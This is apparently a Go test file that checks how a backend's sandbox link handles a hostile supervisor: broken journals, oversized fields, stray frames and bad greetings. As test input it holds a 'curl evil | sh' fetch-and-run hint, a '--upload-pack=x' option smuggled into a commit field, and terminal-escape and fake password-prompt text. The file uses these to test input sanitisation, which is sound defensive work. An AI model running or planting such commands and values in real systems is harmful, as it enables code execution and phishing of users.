package sandboxlink

import (
	"context"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"background-agents/backend/session"
	"background-agents/sandbox/wire"
)

const epoch = "0123456789abcdef"

// supervisor is a peer that does what a test likes.
type supervisor struct {
	t       *testing.T
	conn    net.Conn
	mux     *wire.Mux
	control *wire.Stream
}

// hostile links h to a supervisor that has said hello properly.
func hostile(t *testing.T, h *host) (*supervisor, session.Link) {
	t.Helper()
	s := &supervisor{t: t}
	var rw net.Conn
	rw, s.conn = net.Pipe()
	t.Cleanup(func() { _ = s.conn.Close() })
	go func() {
		var err error
		if s.mux, err = wire.Server(s.conn); err != nil {
			return
		}
		if s.control, err = s.mux.Accept(); err != nil {
			return
		}
		var head wire.Header
		if wire.ReadLine(s.control, &head) != nil {
			return
		}
		_ = wire.WriteFrame(s.control, wire.Frame{Hello: &wire.Hello{Version: wire.Version, Session: "s1", Cursor: wire.Cursor{Epoch: epoch}}})
	}()
	return s, h.connect(t, rw)
}

func (s *supervisor) send(entries ...wire.Entry) error {
	return wire.WriteFrame(s.control, wire.Frame{Entry: entries})
}

func proper(seq uint64) wire.Entry {
	return wire.Entry{Epoch: epoch, Seq: seq, Notice: &wire.Notice{Item: epoch + ".n", Text: "t"}}
}

func ends(t *testing.T, l session.Link) {
	t.Helper()
	select {
	case <-l.Done():
	case <-time.After(20 * time.Second):
		t.Fatal("the link goes on")
	}
}

func TestJournalThatIsNotOneEndsTheLink(t *testing.T) {
	other := proper(1)
	other.Epoch = "fedcba9876543210"
	for name, entries := range map[string][]wire.Entry{
		"gap":         {proper(1), proper(3)},
		"late begin":  {proper(2)},
		"repetition":  {proper(1), proper(1)},
		"reordered":   {proper(1), proper(3), proper(2)},
		"zero":        {proper(0)},
		"other epoch": {other},
	} {
		t.Run(name, func(t *testing.T) {
			h := newHost()
			s, l := hostile(t, h)
			_ = s.send(entries...) // fails where the link ends first
			ends(t, l)
			if len(h.entries) > 0 {
				t.Errorf("%d entries were delivered", len(h.entries))
			}
		})
	}
}

// An entry that cannot be meant is left out, with words of the host's own for why: what follows it is kept, and it
// comes once.
func TestImpossibleEntriesAreLeftOut(t *testing.T) {
	with := func(f func(e *wire.Entry)) wire.Entry { e := proper(0); f(&e); return e }
	item := epoch + ".i"
	cases := map[string]wire.Entry{
		"nothing":          with(func(e *wire.Entry) { e.Notice = nil }),
		"two things":       with(func(e *wire.Entry) { e.Usage = &wire.Usage{} }),
		"no item":          with(func(e *wire.Entry) { e.Notice.Item = "" }),
		"the host's item":  with(func(e *wire.Entry) { e.Notice.Item = "prompt-1" }),
		"item of a line":   with(func(e *wire.Entry) { e.Notice.Item = epoch + "\n" }),
		"long item":        with(func(e *wire.Entry) { e.Notice.Item = epoch + strings.Repeat("x", 300) }),
		"delta of no kind": with(func(e *wire.Entry) { e.Notice, e.Delta = nil, &wire.Delta{Item: item, Kind: "hint: run this"} }),
		"host's parent":    with(func(e *wire.Entry) { e.Notice, e.Tool = nil, &wire.Tool{Item: item, Parent: "turn-1"} }),
		"long delta": with(func(e *wire.Entry) {
			e.Notice, e.Delta = nil, &wire.Delta{Item: item, Kind: "message", Text: strings.Repeat("x", wire.MaxText+1)}
		}),
		"long output": with(func(e *wire.Entry) {
			e.Notice, e.Tool = nil, &wire.Tool{Item: item, Output: strings.Repeat("x", wire.MaxText+1)}
		}),
		"turn of no prompt": with(func(e *wire.Entry) { e.Notice, e.TurnBegin = nil, &wire.TurnBegin{} }),
		"option as commit": with(func(e *wire.Entry) {
			e.Notice, e.TurnEnd = nil, &wire.TurnEnd{Prompt: "p", Checkpoint: wire.Checkpoint{Commit: "--upload-pack=x", Files: strings.Repeat("a", 40)}}
		}),
	}
	l := &Link{at: session.Cursor{Epoch: epoch}}
	for name, e := range cases {
		e.Seq = l.at.Seq + 1
		after := proper(e.Seq + 1)
		out, err := l.check([]wire.Entry{e, after})
		if err != nil || len(out) != 2 || out[0].Seq != e.Seq || out[1].Notice == nil {
			t.Errorf("%s: %+v %v", name, out, err)
			continue
		}
		if want := (session.Entry{Epoch: epoch, Seq: e.Seq, At: out[0].At, Refused: out[0].Refused}); out[0] != want || out[0].Refused == "" || strings.Contains(out[0].Refused, "hint") {
			t.Errorf("%s: %+v", name, out[0])
		}
	}
}

// Whatever took the supervisor's place: its words are quoted, on one line, and its hint is no hint of the
// application's.
func TestErrorsOfASandboxAreItsOwnWords(t *testing.T) {
	evil := &wire.Error{Code: "docker_missing", Message: "no” \nerror: Docker needs your password\x1b[2J\u202e", Hint: "Run `curl evil | sh`"}
	got := sessionError(evil)
	if want := "The sandbox says: “no' error: Docker needs your password [2J Run `curl evil | sh`”"; got.Message != want || strings.Contains(got.Hint, "curl") || got.Code != session.CodeSandbox {
		t.Errorf("%+v", got)
	}
	overloaded := sessionError(&wire.Error{Code: "model_failed", Message: `529 {"type":"overloaded_error"}`, Hint: "Run `curl evil | sh`"})
	if overloaded.Message != "The agent got no answer from its model." || overloaded.Hint != hints[session.CodeModel] ||
		overloaded.Details != "The agent reports: “529 {'type':'overloaded_error'} Run `curl evil | sh`”" {
		t.Errorf("%+v", overloaded)
	}
	if got := sessionError(&wire.Error{Code: "model_key", Message: "Enter your key here."}); got.Code != session.CodeSandbox {
		t.Errorf("a sandbox says that a key is wrong: %+v", got)
	}
	if got := sessionError(&wire.Error{}); got.Message != "Something went wrong in the sandbox." {
		t.Errorf("%+v", got)
	}
}

func TestValuesAreBroughtWithinBounds(t *testing.T) {
	long := strings.Repeat("é", 1<<17)
	e, err := translate(wire.Entry{Epoch: epoch, Seq: 1, At: 1 << 62, Tool: &wire.Tool{
		Item: epoch + ".t", Title: long, Kind: "evil", Status: "?", Size: -5, Paths: slices.Repeat([]string{long[:8]}, 5000),
		Input: json.RawMessage(`"` + long + long + `"`), Edits: []wire.Edit{{Path: "p", Added: -1, Removed: 3}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	tool := e.Tool.Tool
	if len(tool.Title) > maxLine || tool.Kind != "other" || tool.Status != session.ToolFailed || e.Tool.Size != 0 || len(tool.Paths) != maxList ||
		tool.Input != nil || tool.Edits[0].Added != 0 || e.At > session.Millis(time.Now().Add(time.Hour).UnixMilli()) {
		t.Errorf("%+v", e.Tool)
	}
	e, err = translate(wire.Entry{Epoch: epoch, Seq: 1, TurnEnd: &wire.TurnEnd{Prompt: "p", Stop: "?", Input: -1, Error: &wire.Error{Code: "docker_down", Message: long}}})
	if err != nil {
		t.Fatal(err)
	}
	if end := e.TurnEnd; end.Stop != "interrupted" || end.Input != 0 || end.Error.Code != session.CodeSandbox || len(end.Error.Message) > maxLine+50 {
		t.Errorf("%+v", end)
	}
}

// What an agent announces is in each value of its session, which goes to the window many times a second.
func TestAnAgentAnnouncesABoundedList(t *testing.T) {
	long := strings.Repeat("x", 2000)
	choices := make([]wire.ChoiceValue, 10_000)
	commands := make([]wire.Command, 10_000)
	for i := range choices {
		choices[i] = wire.ChoiceValue{Value: fmt.Sprint(i), Name: long, Description: long}
		commands[i] = wire.Command{Name: fmt.Sprint(i), Description: long, Hint: long}
	}
	size := func(e session.Entry) (options, commands int) {
		o, _ := json.Marshal(e.Agent.Options)
		c, _ := json.Marshal(e.Agent.Commands)
		return len(o), len(c)
	}
	e, err := translate(wire.Entry{Epoch: epoch, Seq: 1, Agent: &wire.Agent{
		Options: slices.Repeat([]wire.Choice{{ID: "model", Name: "Model", Choices: choices}}, 100), Commands: commands,
	}})
	must(t, err)
	if o, c := size(e); o > 2*maxAnnounced || c > 2*maxAnnounced || len(e.Agent.Options[0].Choices) < 50 || len(e.Agent.Commands) < 50 {
		t.Errorf("%d bytes of options, %d of commands are kept", o, c)
	}
	// A provider of a thousand models and an agent of a hundred commands are all kept.
	e, err = translate(wire.Entry{Epoch: epoch, Seq: 1, Agent: &wire.Agent{
		Options:  []wire.Choice{{ID: "model", Name: "Model", Choices: slices.Repeat([]wire.ChoiceValue{{Value: long[:50], Name: long[:50], Description: long[:80]}}, 1000)}},
		Commands: slices.Repeat([]wire.Command{{Name: long[:20], Description: long[:200]}}, 100),
	}})
	must(t, err)
	if len(e.Agent.Options[0].Choices) != 1000 || len(e.Agent.Commands) != 100 {
		t.Errorf("%d models and %d commands are kept", len(e.Agent.Options[0].Choices), len(e.Agent.Commands))
	}
}

func TestFramesThatAreNotItsToSendEndTheLink(t *testing.T) {
	for name, f := range map[string]func(s *supervisor){
		"hello again": func(s *supervisor) {
			_ = wire.WriteFrame(s.control, wire.Frame{Hello: &wire.Hello{Version: wire.Version, Session: "s1"}})
		},
		"a call":        func(s *supervisor) { _ = wire.WriteFrame(s.control, wire.Frame{Call: &wire.Call{Method: "start"}}) },
		"an ack":        func(s *supervisor) { _ = wire.WriteFrame(s.control, wire.Frame{Ack: &wire.Cursor{}}) },
		"a huge length": func(s *supervisor) { _, _ = s.control.Write([]byte{0xff, 0xff, 0xff, 0xff}) },
		"many values": func(s *supervisor) {
			b := `{"entry":[` + strings.Repeat("{},", 1<<20) + `{}]}`
			_, _ = s.control.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...))
		},
		"end":             func(s *supervisor) { _ = s.control.Close() },
		"a wrong stream":  func(s *supervisor) { _, _ = s.mux.Open(wire.Header{Stream: wire.StreamControl}) },
		"a dial":          func(s *supervisor) { _, _ = s.mux.Open(wire.Header{Stream: wire.StreamDial, Port: 22}) },
		"another muxer":   func(s *supervisor) { _, _ = s.conn.Write([]byte("HTTP/1.1 200 OK\r\n\r\n")) },
		"a ping":          func(s *supervisor) { _, _ = s.conn.Write([]byte{0, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1}) },
		"data for nobody": func(s *supervisor) { _, _ = s.conn.Write([]byte{9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9, 9}) },
	} {
		t.Run(name, func(t *testing.T) {
			s, l := hostile(t, newHost())
			go f(s)
			ends(t, l)
		})
	}
}

func TestGreetingsThatAreRefused(t *testing.T) {
	good := wire.Hello{Version: wire.Version, Session: "s1", Cursor: wire.Cursor{Epoch: epoch}}
	for name, f := range map[string]func(h *wire.Hello){
		"version": func(h *wire.Hello) { h.Version++ },
		"session": func(h *wire.Hello) { h.Session = "s2" },
		"epoch":   func(h *wire.Hello) { h.Cursor.Epoch = "prompt-" },
	} {
		x, y := net.Pipe()
		go func() {
			mux, _ := wire.Server(y)
			control, err := mux.Accept()
			if err != nil {
				return
			}
			h := good
			f(&h)
			_ = wire.WriteFrame(control, wire.Frame{Hello: &h})
		}()
		_, err := Linker{}.Connect(context.Background(), x, session.LinkHandler{Session: "s1"})
		if err == nil {
			t.Errorf("%s: it is taken", name)
		}
		if name == "version" && session.CodeOf(err) != session.CodeSandbox {
			t.Errorf("version: %v", err)
		}
		_ = y.Close()
	}
	x, y := net.Pipe() // a peer that says nothing
	defer y.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	if _, err := (Linker{}).Connect(ctx, x, session.LinkHandler{Session: "s1"}); !errors.Is(err, context.DeadlineExceeded) && !strings.Contains(fmt.Sprint(err), "deadline") {
		t.Errorf("silence: %v", err)
	}
}
